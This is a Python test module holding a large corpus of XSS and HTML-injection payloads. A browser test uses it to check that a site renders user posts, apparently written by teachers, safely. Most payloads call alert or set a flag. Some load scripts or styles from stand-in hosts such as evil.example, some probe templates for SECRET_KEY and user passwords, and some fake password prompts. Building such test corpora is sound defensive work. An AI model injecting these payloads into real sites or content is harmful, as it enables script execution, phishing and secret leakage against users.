"""A corpus of XSS and HTML-injection payloads for the rendering tests of user content.

Every payload that could run code calls ``alert`` or sets ``window.__pwned``; the browser test
fails on any dialog or on that flag, and checks that the page keeps its structure.
"""

JS = "alert(1)"
FLAG = "window.__pwned=1"

SCRIPT_TAGS = [
    f"<script>{JS}</script>",
    f"<SCRIPT>{JS}</SCRIPT>",
    f"<script >{JS}</script >",
    f"<script/x>{JS}</script>",
    f'<script type="text/javascript">{JS}</script>',
    f"<script>{FLAG}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<<script>{JS};//<</script>",
    f"<script\n>{JS}</script\n>",
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f"</p></div></main><script>{JS}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f"<template><script>{JS}</script></template>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f"<svg><script>{JS}</script></svg>",
]

EVENT_HANDLERS = [
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}">',
    f"<img src=x oNeRrOr={JS}>",
    f"<img/src=x/onerror={JS}>",
    f'<img src=x onerror="{FLAG}">',
    f"<body onload={JS}>",
    f"<div onmouseover={JS}>наведи</div>",
    f"<p onclick={JS}>нажми</p>",
    f"<a onmouseover={JS}>ссылка</a>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}></select>",
    f"<textarea autofocus onfocus={JS}></textarea>",
    f"<details open ontoggle={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<iframe onload={JS}></iframe>",
    f"<object data=x onerror={JS}></object>",
    f"<marquee onstart={JS}>текст</marquee>",
    f"<form><button formaction=javascript:{JS}>x</button></form>",
    f"<isindex type=image src=1 onerror={JS}>",
    f"<keygen autofocus onfocus={JS}>",
    f'<div style="width:100px;height:100px" onpointerenter={JS}></div>',
    f'<span onanimationstart={JS} style="animation:x">x</span>',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    f"<img src=`x` onerror={JS}>",
    f"<img src=x onerror\n={JS}>",
    f"<img src=x onerror\t={JS}>",
    f"<img src='x'onerror={JS}>",
    f'<img src="x"/onerror="{JS}">',
]

URL_SCHEMES = [
    f'<a href="javascript:{JS}">ссылка</a>',
    f'<a href="JaVaScRiPt:{JS}">ссылка</a>',
    f'<a href=" javascript:{JS}">ссылка</a>',
    f'<a href="java\tscript:{JS}">ссылка</a>',
    f'<a href="java&#x09;script:{JS}">ссылка</a>',
    f'<a href="&#106;avascript:{JS}">ссылка</a>',
    '<a href="vbscript:msgbox(1)">ссылка</a>',
    '<a href="data:text/html,<script>alert(1)</script>">ссылка</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ссылка</a>',
    f'<iframe src="javascript:{JS}"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<embed src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    f'<form action="javascript:{JS}"><input type=submit></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<img src="https://tracker.example/pixel.gif">',
    '<img srcset="https://tracker.example/p.gif 1x">',
]

SVG = [
    f"<svg onload={JS}>",
    f"<svg/onload={JS}>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{JS}"><text x=20 y=20>x</text></a></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{JS}'/></svg>#x\"></use></svg>",
    f"<svg><set attributeName=onmouseover to={JS}>",
    f"<svg><foreignObject><iframe onload={JS}></iframe></foreignObject></svg>",
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
    f"<svg><image href=x onerror={JS} /></svg>",
    f'<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{JS}</handler></svg>',
    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
    f"<svg><discard onbegin={JS}>",
]

CSS = [
    "<style>body{display:none}</style>",
    "<style>*{color:white!important;background:white!important}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(x.xml#xss)">x</div>',
    '<p style="font-size:500px">огромный</p>',
    '<span style="expression(alert(1))">x</span>',
    '<link rel="stylesheet" href="data:text/css,body{display:none}">',
    '<div class="site-header">поддельная шапка</div>',
    '<div class="alert alert-error" role="alert">Ваш пароль устарел, введите его здесь</div>',
]

BROKEN_MARKUP = [
    "</main></body></html><h1>Поддельная страница</h1>",
    "<div><div><div><div>незакрытые",
    "</div></div></div></div>лишние закрывающие",
    "<table><tr><td>незакрытая таблица",
    "<!-- незакрытый комментарий",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><x>',
    "<!DOCTYPE html><html>",
    "<title>Чужой заголовок</title>",
    "<h1>Второй главный заголовок</h1>",
    "<form action=/accounts/logout/ method=post><button>Войти</button></form>",
    '<input type=password name=password placeholder="Пароль">',
    "<textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>всё дальше текст",
    '<a href="/">' * 20,
    "<b>" * 200 + "глубокая вложенность",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202eтекст справа налево\u202c",
    "\u0000нулевой символ",
    "текст\u2028разделитель строк\u2029абзац",
    "😀" * 100,
    "a" * 10_000,
    "<p dir=rtl lang=ar>مرحبا</p>",
]

MARKDOWN_TRICKS = [
    f"[клик](javascript:{JS})",
    f"[клик](JAVASCRIPT:{JS})",
    f"[клик]( javascript:{JS})",
    f"[клик](javascript&#58;{JS})",
    f"[клик](<javascript:{JS}>)",
    f'[клик](javascript:{JS} "подсказка")',
    "[клик](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[клик](vbscript:msgbox(1))",
    f"[клик][ref]\n\n[ref]: javascript:{JS}",
    f"<javascript:{JS}>",
    "![картинка](https://tracker.example/pixel.png)",
    f'![x](x" onerror="{JS})',
    f'[x](https://example.ru" onmouseover="{JS})',
    f"[x](https://example.ru'onmouseover='{JS})",
    f"[<img src=x onerror={JS}>](https://example.ru)",
    f"[x](https://example.ru)<img src=x onerror={JS}>",
    f"`<script>{JS}</script>`",
    f"```\n<script>{JS}</script>\n```",
    f"```html\n<img src=x onerror={JS}>\n```",
    f"> <script>{JS}</script>",
    f"> > > <img src=x onerror={JS}>",
    f"- <svg onload={JS}>",
    f"1. <iframe src=javascript:{JS}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={JS}> | x |",
    f"# <script>{JS}</script>",
    f"**<img src=x onerror={JS}>**",
    f"_<a href=javascript:{JS}>x</a>_",
    f"~~<svg/onload={JS}>~~",
    f'[a](https://example.ru "<script>{JS}</script>")',
    f'[a](#"><img src=x onerror={JS}>)',
    f'<a href="https://example.ru">[ok](javascript:{JS})</a>',
    f"\\<script>{JS}\\</script>",
    f"<!-- --><script>{JS}</script>",
    "***\n<style>body{display:none}</style>",
    f"[x]: javascript:{JS}\n[x]",
    f"https://example.ru/<script>{JS}</script>",
    "[длинная ссылка](https://example.ru/" + "a" * 3000 + ")",
    "[" * 500 + "x" + "]" * 500,
    "*" * 5000,
    ">" * 1000 + " глубокая цитата",
]

ATTRIBUTE_BREAKOUTS = [
    f'" onmouseover="{JS}',
    f"' onmouseover='{JS}",
    f'"><img src=x onerror={JS}>',
    f"'><img src=x onerror={JS}>",
    f'" autofocus onfocus="{JS}',
    f"javascript:{JS}",
    f'"/><svg onload={JS}>',
    f"`-{JS}-`",
    f"${{{JS}}}",
    f"{{{{{JS}}}}}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    f"</script><script>{JS}</script>",
    f'\\"; {JS}; //',
    f"'; {JS}; //",
]

ENCODED = [
    f"%3Cscript%3E{JS}%3C%2Fscript%3E",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    f"<scrİpt>{JS}</scrİpt>",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    "<img src=x onerror=top[/al/.source+/ert/.source](1)>",
    "<img src=x onerror=(alert)(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=Function('alert(1)')()>",
    "<img src=x onerror=setTimeout('alert(1)')>",
    "<img src=x onerror=import('data:text/javascript,alert(1)')>",
]

# Payloads hidden inside ordinary teacher's text, as they would arrive in real posts.
MIXED = [
    f"Уважаемые коллеги! <script>{JS}</script> Приглашаем на семинар.",
    f"План урока по теме «Дроби» <img src=x onerror={JS}> прилагаю.",
    f"Ссылка на положение: [Положение](javascript:{JS}) — ознакомьтесь.",
    f"Методическая разработка <svg onload={JS}> для 5 класса.",
    f"Вопрос к эксперту: <a href=javascript:{JS}>см. здесь</a>",
    f"Таблица оценивания:\n\n| Критерий | Балл |\n|---|---|\n| <b onclick={JS}>Полнота</b> | 5 |",
    f"Цитата:\n\n> <iframe src=javascript:{JS}></iframe>\n\nСогласна.",
    f"Код для презентации: `<script>{JS}</script>` — не запускайте.",
    f'Телефон методиста: <a href="tel:+70000000000" onclick="{JS}">позвонить</a>',
    f'Почта: <a href="mailto:x@example.ru" onmouseover="{JS}">написать</a>',
    f"Итоги конкурса <details open ontoggle={JS}>подробнее</details>",
    f"<u>Подчёркнутый</u> <font color=red onmouseover={JS}>красный</font>",
    f"Рекомендую <marquee onstart={JS}>бегущую строку</marquee>",
    f"Домашнее задание:\n1. <input autofocus onfocus={JS}>\n2. Упражнение 5",
    f"Видеозапись урока: <video src=x onerror={JS}></video>",
    "Срок до 01.12 <style>.site-header{display:none}</style>",
]

PAYLOADS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + URL_SCHEMES
    + SVG
    + CSS
    + BROKEN_MARKUP
    + MARKDOWN_TRICKS
    + ATTRIBUTE_BREAKOUTS
    + ENCODED
    + MIXED
)

# Short enough for single-line fields (titles, names, subjects).
SHORT_PAYLOADS = [p for p in PAYLOADS if len(p) <= 150 and "\n" not in p]

assert len(PAYLOADS) >= 200, len(PAYLOADS)
